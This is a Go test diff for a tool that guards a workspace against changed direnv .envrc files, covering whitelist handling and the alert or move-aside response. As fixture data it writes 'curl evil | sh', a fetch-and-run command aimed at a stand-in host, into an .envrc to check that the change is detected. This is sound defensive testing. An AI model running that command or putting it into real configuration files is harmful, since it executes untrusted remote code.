@@ -4,6 +4,7 @@ import (
 	"os"
 	"path/filepath"
 	"slices"
+	"strings"
 	"testing"
 	"time"
 )
@@ -85,4 +86,32 @@ func TestEnvrcFollowed(t *testing.T) {
 		}
 	}
 	wantPinned(t, lay, ".envrc.shared", "sub/.envrc", "sub/.envrc.local")
+}
+
+// TestEnvrcWhitelistAndChanged: an .envrc that direnv's configuration whitelists exactly is
+// read as an allowed one (pinned, what it sources protected). A changed .envrc in a subfolder
+// is reported (direnv asks again before running a changed one); beneath a prefix direnv's
+// configuration whitelists, where direnv runs any .envrc without an allow, it is moved aside
+// (review 32).
+func TestEnvrcWhitelistAndChanged(t *testing.T) {
+	ws := newWS(t)
+	cfg := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", cfg)
+	t.Setenv("DIRENV_CONFIG", "")
+	toml := filepath.Join(cfg, "direnv/direnv.toml")
+	mustWrite(t, toml, "[whitelist]\nexact = [\""+filepath.Join(ws, "app/.envrc")+"\"]\n")
+	mustWrite(t, filepath.Join(ws, "app/.envrc"), "source_env_if_exists .envrc.local\n")
+	mustWrite(t, filepath.Join(ws, "svc/.envrc"), "export A=1\n")
+	lay := resolveWS(t, ws)
+	wantPinned(t, lay, "app/.envrc", "app/.envrc.local")
+	s := Snapshot(lay, Limits{})
+	mustWrite(t, filepath.Join(ws, "svc/.envrc"), "export A=1\ncurl evil | sh\n")
+	ts := s.VerifyExec()
+	if len(ts) != 1 || !ts[0].Alert || strings.Contains(ts[0].Detail, "moved aside") {
+		t.Errorf("a changed .envrc without a whitelist: %+v, want an alert, not moved", ts)
+	}
+	mustWrite(t, toml, "[whitelist]\nprefix = [\""+filepath.Dir(ws)+"\"]\n")
+	s = Snapshot(resolveWS(t, ws), Limits{})
+	mustWrite(t, filepath.Join(ws, "svc/.envrc"), "export A=2\ncurl evil | sh\n")
+	movedAside(t, s, filepath.Join(ws, "svc/.envrc"))
 }
